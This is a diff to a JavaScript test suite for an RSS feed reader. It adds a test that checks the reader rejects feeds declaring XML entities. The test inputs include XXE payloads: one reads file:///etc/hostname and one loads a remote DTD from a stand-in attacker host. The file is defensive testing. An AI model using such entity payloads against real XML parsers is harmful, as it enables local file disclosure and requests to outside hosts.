@@ -186,6 +186,14 @@ test('does not expand nested entities', () => {
   expect(JSON.stringify(read)).not.toContain('haha');
 });
 
+test('rejects a feed that declares entities, so it reads no file or address that one names', () => {
+  for (const entity of ['a SYSTEM "file:///etc/hostname"', '% a SYSTEM "https://evil.example/x.dtd"', 'a "text"']) {
+    const feed = rss(item({ title: 'Ha &a;' }));
+    const hostile = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY ${entity}>]>${feed.slice(feed.indexOf('<rss'))}`;
+    expect(readFeed(Buffer.from(hostile), 'text/xml', FEED)).toEqual({ ok: false, error: 'not a feed' });
+  }
+});
+
 test('returns the first twelve stories', () => {
   const titles = stories(rss(...Array.from({ length: 50 }, (_, at) => item({ title: `Story ${at}` })))).map(({ title }) => title);
   expect(titles).toHaveLength(12);
